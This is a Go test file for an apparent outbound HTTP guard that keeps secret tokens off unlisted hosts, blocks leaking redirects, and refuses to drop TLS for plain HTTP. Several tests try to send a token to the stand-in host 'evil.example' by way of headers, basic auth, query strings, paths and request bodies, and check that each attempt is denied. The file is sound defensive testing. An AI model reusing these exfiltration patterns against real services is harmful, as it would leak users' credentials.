package outbound_test

import (
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"hearth"
	"hearth/outbound"
)

const token = "token-of-nobody+/="

// proves OU5
func TestASecretGoesToItsHostsOnly(t *testing.T) {
	t.Parallel()
	var leaks, seen int
	o := outbound.New(outbound.Config{Leak: func(error) { leaks++ }})
	o.SendBy(far(func(r *http.Request) (*http.Response, error) {
		seen++
		return says(http.StatusOK), nil
	}))
	client := o.For(outbound.Web, outbound.Scope{Account: "source 1", Secrets: []string{token},
		Hosts: []string{"https://mastodon.example", "api.other.example:8443", "http://plain.example", "ws://127.0.0.1:4000", "localhost:4001"}})
	send := func(address string, put func(*http.Request)) error {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, address, strings.NewReader("status=hello"))
		if err != nil {
			t.Fatal(err)
		}
		put(r)
		answer, err := client.Do(r)
		if err == nil {
			answer.Body.Close()
		}
		return err
	}
	bearer := func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+token) }
	for _, address := range []string{
		"https://mastodon.example/api", "https://MASTODON.example./api", "https://streaming.mastodon.example/", "https://api.other.example:8443/",
		"http://plain.example/", "https://plain.example/", "http://127.0.0.1:4000/", "http://localhost:4001/",
	} {
		if err := send(address, bearer); err != nil {
			t.Errorf("%s: %v", address, err)
		}
	}
	if leaks > 0 || seen != 8 {
		t.Errorf("%d leaks, %d requests", leaks, seen)
	}
	seen = 0
	elsewhere := []string{
		"https://evil.example/", "http://mastodon.example/", "https://mastodon.example.evil.example/", "https://evilmastodon.example/",
		"https://api.other.example/", "http://api.other.example:8443/", "http://127.0.0.1:4002/", "https://localhost/", "http://evil.localhost:4001/",
	}
	for _, address := range elsewhere {
		if err := send(address, bearer); hearth.ErrorCode(err) != hearth.Denied || strings.Contains(err.Error(), token) {
			t.Errorf("%s: %v", address, err)
		}
	}
	ways := map[string]func(*http.Request){
		"another header": func(r *http.Request) { r.Header.Set("X-Private", "a"+token) },
		"a password":     func(r *http.Request) { r.SetBasicAuth("me", token) },
		"a cookie":       func(r *http.Request) { r.AddCookie(&http.Cookie{Name: "s", Value: "1"}) },
		"the query": func(r *http.Request) {
			r.URL.RawQuery = "access_token=" + strings.NewReplacer("+", "%2B", "/", "%2F", "=", "%3D").Replace(token)
		},
		"the path":    func(r *http.Request) { r.URL.Path = "/" + token },
		"the address": func(r *http.Request) { r.URL.User = nil; r.URL.Path = "/x"; r.URL.Fragment = token },
		"a body": func(r *http.Request) {
			r.GetBody = func() (io.ReadCloser, error) {
				return io.NopCloser(strings.NewReader(`{"password":"` + token + `"}`)), nil
			}
		},
	}
	for name, put := range ways {
		if err := send("https://evil.example/", put); hearth.ErrorCode(err) != hearth.Denied {
			t.Errorf("a secret in %s: %v", name, err)
		}
	}
	if leaks != len(elsewhere)+len(ways) || seen > 0 {
		t.Errorf("%d leaks were told, %d requests were sent", leaks, seen)
	}
	if err := send("https://evil.example/", func(*http.Request) {}); err != nil {
		t.Errorf("a request without a secret: %v", err)
	}
}

// proves F35 for a token in the address.
func TestARedirectDoesNotCarryASecretAway(t *testing.T) {
	t.Parallel()
	var there []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { there = append(there, r.URL.String()) }))
	defer other.Close()
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.URL+"/?"+r.URL.RawQuery, http.StatusFound)
	}))
	defer home.Close()
	client := allowed(t, home, other).For(outbound.Web, outbound.Scope{Secrets: []string{"very-secret-key"}, Hosts: []string{home.URL}})
	if got := get(t.Context(), client, home.URL+"/?key=very-secret-key"); !strings.Contains(got, "was not sent") || len(there) > 0 {
		t.Errorf("%s, %q", got, there)
	}
	if got := get(t.Context(), client, home.URL+"/?q=acme"); got != "200" || len(there) != 1 {
		t.Errorf("%s, %q", got, there)
	}
}

func TestATroubleWithTLSNeverFallsBackToTheOpen(t *testing.T) {
	t.Parallel()
	plain := 0
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.TLS == nil {
			plain++
		}
	}))
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS() // its certificate is nobody's
	defer s.Close()
	if got := get(t.Context(), allowed(t, s).Client(outbound.Web), s.URL); !strings.Contains(got, "certificate") || plain > 0 {
		t.Errorf("%s, %d plain requests", got, plain)
	}
}
